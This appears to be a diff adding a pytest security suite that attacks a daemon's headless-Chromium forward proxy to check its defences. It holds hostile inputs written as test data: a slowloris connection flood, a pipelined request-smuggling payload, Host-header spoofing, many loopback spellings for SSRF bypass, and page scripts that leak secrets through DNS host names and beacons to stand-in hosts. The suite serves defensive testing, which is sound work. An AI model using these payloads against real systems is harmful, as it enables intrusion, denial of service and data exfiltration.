@@ -1,0 +1,464 @@
+"""An attacker's-eye review of the daemon's headless forward proxy (``trawl.sources.proxy``), over real sockets and
+real Chromium.
+
+Attackers (SECURITY.md's threat table): another OS user on the machine (any loopback port, many connections), a
+hostile page in headless Chromium (any request its scripts and markup can make, its own DNS), a prompt-injected
+agent. A test marked ``xfail(strict=True)`` mounts an attack that lands today: the fix turns it into a failure, and
+the marker is then removed. An unmarked test mounts an attack the defence held (a regression test).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import contextlib
+import json
+import os
+import socket
+import subprocess
+from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aiohttp import web
+from trawl.exitflow import hop_checks, host_of
+from trawl.settings import Settings
+from trawl.sources import proxy
+from trawl.sources.base import FetchRequest
+from trawl.sources.playwright import PlaywrightSource, RequestGuard
+from trawl.types import ErrorCode, TrawlError
+
+from tests.security.channel_util import nobody_python
+
+PUBLIC_IP = "93.184.215.14"  # what trawl's resolver answers for *.probe.test in these tests
+FILLER = "The harbour office lists the ferry times to the outer islands for every day of the week. " * 6
+
+
+# ------------------------------------------------------------------------------------------------ fixtures
+class Names:
+    """trawl's resolver in a test: every name asked is recorded (what an attacker's DNS server would see); names
+    under ``.probe.test`` answer a public address, the rest go to the real resolver."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        self._real = socket.getaddrinfo
+
+    def __call__(self, host: Any, port: Any, *args: Any, **kw: Any) -> Any:
+        name = (host.decode() if isinstance(host, bytes) else str(host)).rstrip(".").lower()
+        self.asked.append(name)
+        if name.endswith(".probe.test"):
+            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (PUBLIC_IP, int(port or 0)))]
+        return self._real(host, port, *args, **kw)
+
+
+class KeepAlive:
+    """A plain HTTP server on 127.0.0.1 that, like most, serves more than one request on a connection: it records
+    every request head it receives on a connection (waiting briefly for a second one) before answering."""
+
+    def __init__(self) -> None:
+        self.heads: list[bytes] = []
+        self.accepted = 0
+        self.port = 0
+        self._server: asyncio.Server | None = None
+
+    async def start(self) -> KeepAlive:
+        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
+        self.port = int(self._server.sockets[0].getsockname()[1])
+        return self
+
+    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        self.accepted += 1
+        try:
+            for _ in range(2):
+                try:
+                    self.heads.append(await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 3))
+                except (TimeoutError, asyncio.IncompleteReadError):
+                    break
+            body = b"ok"
+            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n" + body)
+            await writer.drain()
+        except ConnectionError:
+            pass
+        finally:
+            writer.close()
+
+    async def stop(self) -> None:
+        if self._server is not None:
+            self._server.close()
+
+
+@pytest.fixture
+async def keepalive() -> AsyncIterator[KeepAlive]:
+    up = await KeepAlive().start()
+    yield up
+    await up.stop()
+
+
+@pytest.fixture
+async def guard_proxy() -> AsyncIterator[proxy.GuardProxy]:
+    p = proxy.GuardProxy(connect_timeout_s=3.0)
+    await p.start()
+    yield p
+    await p.aclose()
+
+
+def auth(client: proxy.ProxyClient) -> bytes:
+    token = base64.b64encode(f"{client.username}:{client.password}".encode()).decode()
+    return f"Proxy-Authorization: Basic {token}\r\n".encode()
+
+
+def recording(asked: list[tuple[str, int, str | None]], addr: str = "127.0.0.1") -> proxy.Admit:
+    async def admit(host: str, port: int, url: str | None) -> list[str]:
+        asked.append((host, port, url))
+        return [addr]
+    return admit
+
+
+async def exchange(port: int, raw: bytes, *, one: bool = False) -> bytes:
+    """Send ``raw``; read until the proxy closes, or (``one``) one answer by its Content-Length (a 407 keeps the
+    connection open)."""
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    try:
+        writer.write(raw)
+        await writer.drain()
+        if not one:
+            return await asyncio.wait_for(reader.read(), 20)
+        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
+        length = next((int(line.split(b":", 1)[1]) for line in head.split(b"\r\n")
+                       if line.lower().startswith(b"content-length:")), 0)
+        return head + await asyncio.wait_for(reader.readexactly(length), 20)
+    finally:
+        writer.close()
+
+
+def settings(tmp_path: Path, **kw: Any) -> Settings:
+    return Settings(state_dir=tmp_path / "state", cache_dir=tmp_path / "cache", **kw)
+
+
+@contextlib.asynccontextmanager
+async def site(handler: Any, host: str = "127.0.0.1") -> AsyncIterator[int]:
+    app = web.Application()
+    app.router.add_route("*", "/{tail:.*}", handler)
+    runner = web.AppRunner(app, access_log=None)
+    await runner.setup()
+    await web.TCPSite(runner, host, 0).start()
+    try:
+        yield int(runner.addresses[0][1])
+    finally:
+        await runner.cleanup()
+
+
+def spy_clients(monkeypatch: pytest.MonkeyPatch) -> list[proxy.ProxyClient]:
+    clients: list[proxy.ProxyClient] = []
+    original = proxy.GuardProxy.register
+
+    def spy(self: proxy.GuardProxy, admit: proxy.Admit) -> proxy.ProxyClient:
+        clients.append(original(self, admit))
+        return clients[-1]
+
+    monkeypatch.setattr(proxy.GuardProxy, "register", spy)
+    return clients
+
+
+@contextlib.contextmanager
+def tainted_session() -> Iterator[None]:
+    """An agent's fetch in a session that read private content: every request of the page to another host than
+    the local one it opened is held (what the exit rule does for a host nobody vouched for)."""
+    def check(url: str, *, subrequest: bool = False) -> None:
+        if host_of(url) not in ("127.0.0.1", ""):
+            raise TrawlError(ErrorCode.EXIT_HELD, f"held by trawl's exit rule: {url[:80]}")
+    with hop_checks(check):
+        yield
+
+
+# ------------------------------------------------------------------------- another OS user on the machine
+RAW_CONNECT = r"""
+import socket, sys, json
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
+s.sendall(b"CONNECT probe.test:443 HTTP/1.1\r\nHost: probe.test:443\r\n\r\n")
+got = b""
+try:
+    while True:
+        d = s.recv(65536)
+        if not d:
+            break
+        got += d
+        if b"\r\n\r\n" in got:
+            break
+except OSError:
+    pass
+print(json.dumps(got.decode("latin-1")))
+"""
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "open: the proxy's listener has no peer-uid gate (the daemon's TCP listener closes another uid's connection "
+    "at accept, channel.peer.same_user_check); another OS user is read and answered (407), and can hold its "
+    "connections and descriptors"))
+async def test_another_os_user_gets_no_byte_from_the_proxy(guard_proxy: proxy.GuardProxy) -> None:
+    """Only Chromium, a child of the daemon running as its user, has any business on the proxy's port."""
+    py = nobody_python()
+    r = await asyncio.to_thread(subprocess.run, [*py, "-c", RAW_CONNECT, str(guard_proxy.port)],
+                                capture_output=True, text=True, timeout=60, cwd="/")
+    assert r.returncode == 0, r.stderr
+    got = json.loads(r.stdout)
+    assert got == "", f"the proxy answered another OS user: {got[:80]!r}"
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "open: no cap on the proxy's connections (the daemon's own listener: 512 total / 256 per peer, 10 s head "
+    "timeout); each unauthenticated connection is held for up to 4 heads x HEAD_TIMEOUT_S (30 s) with its task "
+    "and descriptor"))
+async def test_idle_unauthenticated_connections_are_capped(guard_proxy: proxy.GuardProxy) -> None:
+    """Slowloris on the proxy's port: many connections that each send the start of a head and nothing more."""
+    writers: list[asyncio.StreamWriter] = []
+    try:
+        for _ in range(300):
+            _r, w = await asyncio.open_connection("127.0.0.1", guard_proxy.port)
+            w.write(b"CONNECT probe.test:443 HTTP/1.1\r\nX-Slow: ")
+            writers.append(w)
+        await asyncio.gather(*(w.drain() for w in writers))
+        held = 0
+        for _ in range(50):  # until the proxy has accepted what it is going to accept
+            await asyncio.sleep(0.1)
+            if len(guard_proxy._tasks) == held:
+                break
+            held = len(guard_proxy._tasks)
+        assert held <= 256, f"the proxy holds {held} idle unauthenticated connections"
+    finally:
+        for w in writers:
+            w.close()
+
+
+async def test_credentials_end_with_the_context_and_a_wrong_one_is_not_relayed(
+    guard_proxy: proxy.GuardProxy, keepalive: KeepAlive
+) -> None:
+    """A page or user that learned an old context's credentials (or a prefix of live ones) gets 407."""
+    asked: list[tuple[str, int, str | None]] = []
+    old = guard_proxy.register(recording(asked))
+    live = guard_proxy.register(recording(asked))
+    guard_proxy.forget(old)
+    for creds in (auth(old), auth(proxy.ProxyClient(live.username, live.password[:-1], recording(asked))),
+                  auth(proxy.ProxyClient(live.username + ":" + live.password, "", recording(asked)))):
+        got = await exchange(guard_proxy.port, f"GET http://a.probe.test:{keepalive.port}/ HTTP/1.1\r\n"
+                             "Host: a.probe.test\r\n".encode() + creds + b"\r\n", one=True)
+        assert got.startswith(b"HTTP/1.1 407 "), got[:80]
+    assert asked == [] and keepalive.accepted == 0
+
+
+# ------------------------------------------------------------------ one host admitted, another one reached
+@pytest.mark.xfail(strict=True, reason=(
+    "open: _forward pipes every byte after the head to the upstream (_pipe(reader, up_writer)), unframed: a "
+    "second request pipelined on the client connection reaches the first request's upstream, never admitted"))
+async def test_a_pipelined_second_request_is_not_sent_unadmitted(
+    guard_proxy: proxy.GuardProxy, keepalive: KeepAlive
+) -> None:
+    asked: list[tuple[str, int, str | None]] = []
+    client = guard_proxy.register(recording(asked))
+    first = f"GET http://a.probe.test:{keepalive.port}/one HTTP/1.1\r\nHost: a.probe.test\r\n".encode()
+    second = b"GET /admin?k=s3cr3t HTTP/1.1\r\nHost: other.probe.test\r\n\r\n"
+    got = await exchange(guard_proxy.port, first + auth(client) + b"\r\n" + second)
+    assert got.startswith(b"HTTP/1.1 200 "), got[:80]
+    assert [h.split(b"\r\n", 1)[0] for h in keepalive.heads] == [b"GET /one HTTP/1.1"], keepalive.heads
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "open (hardening): _forward keeps the client's Host header when it names another host than the request "
+    "target it admitted; the upstream (the admitted address, e.g. a shared CDN front) serves the other host"))
+async def test_the_host_header_is_the_admitted_hosts(guard_proxy: proxy.GuardProxy, keepalive: KeepAlive) -> None:
+    asked: list[tuple[str, int, str | None]] = []
+    client = guard_proxy.register(recording(asked))
+    got = await exchange(guard_proxy.port, f"GET http://allowed.probe.test:{keepalive.port}/ HTTP/1.1\r\n"
+                         "Host: denied.probe.test\r\n".encode() + auth(client) + b"\r\n")
+    assert got.startswith(b"HTTP/1.1 200 "), got[:80]
+    assert [a[0] for a in asked] == ["allowed.probe.test"]
+    sent = keepalive.heads[0].decode("latin-1").lower()
+    assert "host: denied.probe.test" not in sent and f"host: allowed.probe.test:{keepalive.port}" in sent, sent
+
+
+@pytest.mark.parametrize("target", [
+    "CONNECT 127.1:{port}", "CONNECT 0x7f.1:{port}", "CONNECT 2130706433:{port}", "CONNECT 0:{port}",
+    "CONNECT [::ffff:127.0.0.1]:{port}", "CONNECT [::1]:{port}", "CONNECT LocalHost.:{port}",
+    "CONNECT admin.localhost:{port}", "GET http://probe.test@127.0.0.1:{port}/", "GET http://0177.0.0.1:{port}/",
+    "GET http://[::ffff:7f00:1]:{port}/", "GET http://127.0.0.1.:{port}/",
+])
+async def test_loopback_by_any_spelling_is_refused_at_the_proxy_and_never_connected(
+    tmp_path: Path, guard_proxy: proxy.GuardProxy, keepalive: KeepAlive, target: str
+) -> None:
+    """A hop the route handler never saw reaches the proxy as Chromium wrote it: every spelling of loopback meets
+    the private-network rule on trawl's resolution (private hosts not allowed) and is refused before connecting."""
+    guard = RequestGuard(settings(tmp_path, allow_private_hosts="none"))
+    guard.bind("http://harbour.probe.test/")
+    client = guard_proxy.register(guard.admit)
+    got = await exchange(guard_proxy.port, f"{target.format(port=keepalive.port)} HTTP/1.1\r\n"
+                         "Host: harbour.probe.test\r\n".encode() + auth(client) + b"\r\n")
+    assert got == b"" or got.split(b" ", 2)[1] in (b"403", b"400", b"502"), got[:120]  # b"": unresolvable
+    assert keepalive.accepted == 0 and client.connected == []
+
+
+# ------------------------------------------------------------------------------ the exit rule and DNS
+@pytest.mark.xfail(strict=True, reason=(
+    "open: RequestGuard.admit resolves the name (self.resolve) before the exit rule (check_subrequest): in a "
+    "tainted session, a hop's host name reaches the attacker's DNS server even though the request is held"))
+async def test_a_held_hops_name_is_never_looked_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """DNS exfiltration past the exit rule, at the proxy: a redirect hop to ``<data>.attacker's-zone``."""
+    names = Names()
+    monkeypatch.setattr(socket, "getaddrinfo", names)
+    guard = RequestGuard(settings(tmp_path, allow_private_hosts="loopback"))
+    with tainted_session():
+        guard.bind("http://127.0.0.1:8000/notes")
+        for host, url in (("k-s3cr3t.probe.test", "http://k-s3cr3t.probe.test/"), ("t-s3cr3t.probe.test", None)):
+            with pytest.raises(TrawlError) as held:
+                await guard.admit(host, 443 if url is None else 80, url)
+            assert held.value.code == ErrorCode.EXIT_HELD, held.value
+    assert [n for n in names.asked if "s3cr3t" in n] == [], names.asked
+
+
+# --------------------------------------------------------------------------------------- real Chromium
+PROBE_PAGE = """<!doctype html><title>Harbour</title>
+<link rel=dns-prefetch href="//dnsprefetch.probe.test">
+<link rel=preconnect href="http://preconnect.probe.test">
+<link rel=preconnect href="https://preconnect-tls.probe.test">
+<link rel=prefetch href="http://prefetch.probe.test/p">
+<link rel=stylesheet href="http://css.probe.test/s.css">
+<iframe src="http://frame.probe.test/f"></iframe>
+<p id=out>{filler}</p>
+<script>
+  fetch('http://fetch.probe.test/f', {{method: 'PROPFIND'}}).catch(() => 0);
+  fetch('https://tls.probe.test/f').catch(() => 0);
+  navigator.sendBeacon('http://beacon.probe.test/b', 'x');
+  try {{ new EventSource('http://es.probe.test/e'); }} catch (e) {{}}
+  try {{ new WebSocket('ws://ws.probe.test/w'); }} catch (e) {{}}
+  try {{ navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => 0); }} catch (e) {{}}
+  fetch('http://[::1]:{port}/v6').catch(() => 0);
+  fetch('http://0x7f.1:{port}/short').catch(() => 0);
+</script>"""
+
+
+def descendants(root: int) -> list[int]:
+    parents: dict[int, int] = {}
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            with contextlib.suppress(OSError, IndexError, ValueError):
+                stat = Path(f"/proc/{entry}/stat").read_text()
+                parents[int(entry)] = int(stat.rsplit(")", 1)[1].split()[1])
+    out, todo = [], [root]
+    while todo:
+        pid = todo.pop()
+        kids = [p for p, pp in parents.items() if pp == pid]
+        out += kids
+        todo += kids
+    return out
+
+
+def net_log_events(path: Path) -> list[tuple[str, dict[str, Any]]]:
+    text = path.read_text(errors="replace").rstrip().rstrip(",")
+    if not text.endswith("]}"):
+        text += "]}"  # a log Chromium did not close: its events so far
+    log = json.loads(text)
+    names = {v: k for k, v in log["constants"]["logEventTypes"].items()}
+    return [(names.get(e.get("type"), "?"), e.get("params") or {}) for e in log.get("events", [])]
+
+
+async def test_nothing_a_page_starts_connects_or_resolves_past_the_proxy(
+    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A hostile page tries every kind of request it can start (preconnect, dns-prefetch, prefetch, stylesheet,
+    frame, fetch with an odd method, https, sendBeacon, EventSource, WebSocket, a service worker, an IPv6 and an
+    IPv4-shorthand literal). Chromium's net log says where every TCP connection went and every name it resolved:
+    only the proxy's port, and no name at all. The context's credentials are in no process's argv or environment
+    and in no log line."""
+    names = Names()
+    monkeypatch.setattr(socket, "getaddrinfo", names)
+    clients = spy_clients(monkeypatch)
+    net_log = tmp_path / "net.json"
+    leaks: list[str] = []
+
+    async def handler(request: web.Request) -> web.Response:
+        port = request.url.port
+        return web.Response(text=PROBE_PAGE.format(filler=FILLER, port=port), content_type="text/html")
+
+    s = settings(tmp_path, chromium_path=chromium, allow_private_hosts="loopback", render_timeout_s=40.0,
+                 connect_timeout_s=2.0)
+    source = PlaywrightSource(s, extra_args=(f"--log-net-log={net_log}", "--net-log-capture-mode=Default"))
+    async with site(handler) as port:
+        try:
+            got = await source.fetch(FetchRequest(f"http://127.0.0.1:{port}/"), s)
+            assert source._proxy is not None and source.browser_pid is not None
+            proxy_port = source._proxy.port
+            secrets = [c.password for c in clients]
+            for pid in [source.browser_pid, *descendants(os.getpid())]:
+                for what in ("cmdline", "environ"):
+                    with contextlib.suppress(OSError):
+                        data = Path(f"/proc/{pid}/{what}").read_bytes().decode("latin-1")
+                        leaks += [f"{pid}/{what}" for pw in secrets if pw in data]
+        finally:
+            await source.aclose()
+    assert "ferry times" in got.html
+    assert leaks == [] and not any(pw in caplog.text for pw in secrets), leaks
+    asked_hosts = {h for c in clients for h, _p, _e in c.failed} | {h for c in clients for h, _p, _a in c.connected}
+    assert {"fetch.probe.test", "tls.probe.test", "css.probe.test"} <= asked_hosts, asked_hosts  # mounted
+    events = net_log_events(net_log)
+    connects = sorted({str(p.get("address")) for kind, p in events if kind == "TCP_CONNECT_ATTEMPT"})
+    assert connects == [f"127.0.0.1:{proxy_port}"], connects
+    resolved = [json.dumps(p) for kind, p in events if kind.startswith("HOST_RESOLVER") and p]
+    assert not any("probe.test" in r or "localhost" in r for r in resolved), resolved[:5]
+    assert not [kind for kind, _p in events if kind.startswith("UDP_CONNECT")]
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "open: playwright_proxy passes no bypass, so Playwright adds <-loopback> only while "
+    "PLAYWRIGHT_DISABLE_FORCED_CHROMIUM_PROXIED_LOOPBACK is unset in the daemon's environment; set, Chromium "
+    "connects to loopback (and resolves localhost) itself, past the proxy's admission"))
+async def test_loopback_goes_through_the_proxy_whatever_the_environment(
+    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PLAYWRIGHT_DISABLE_FORCED_CHROMIUM_PROXIED_LOOPBACK", "1")  # inherited by the driver
+    clients = spy_clients(monkeypatch)
+
+    async def handler(request: web.Request) -> web.Response:
+        return web.Response(text=f"<!doctype html><title>L</title><p>{FILLER}</p>", content_type="text/html")
+
+    s = settings(tmp_path, chromium_path=chromium, allow_private_hosts="loopback", render_timeout_s=40.0)
+    source = PlaywrightSource(s)
+    async with site(handler) as port:
+        try:
+            got = await source.fetch(FetchRequest(f"http://127.0.0.1:{port}/"), s)
+        finally:
+            await source.aclose()
+    assert "ferry times" in got.html
+    seen = [c for client in clients for c in client.connected]
+    assert ("127.0.0.1", port, "127.0.0.1") in seen, f"Chromium reached 127.0.0.1:{port} itself: {seen}"
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "open: RequestGuard.route runs self.check (which resolves the name) before exit_verdict; a page in a "
+    "tainted session sends data to the attacker's DNS server in a host name, for requests the exit rule holds "
+    "(images too: they are dropped by type only after the lookup)"))
+async def test_a_held_subrequests_name_is_never_looked_up(
+    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """DNS exfiltration past the exit rule, at the route handler: a local page (stored script on an intranet
+    wiki) puts what it shows into the host name of a fetch and of an image."""
+    names = Names()
+    monkeypatch.setattr(socket, "getaddrinfo", names)
+    script = """<script>
+      fetch('http://k-s3cr3t.probe.test/x').catch(() => 0);
+      new Image().src = 'http://i-s3cr3t.probe.test/p.png';
+    </script>"""
+
+    async def handler(request: web.Request) -> web.Response:
+        return web.Response(text=f"<!doctype html><title>Wiki</title><p>{FILLER}</p>{script}",
+                            content_type="text/html")
+
+    s = settings(tmp_path, chromium_path=chromium, allow_private_hosts="loopback", render_timeout_s=40.0)
+    source = PlaywrightSource(s)
+    async with site(handler) as port:
+        try:
+            with tainted_session():
+                got = await source.fetch(FetchRequest(f"http://127.0.0.1:{port}/wiki"), s)
+        finally:
+            await source.aclose()
+    assert any("held by trawl's exit rule" in w for w in got.warnings), got.warnings  # the attack was mounted
+    assert [n for n in names.asked if "s3cr3t" in n] == [], names.asked
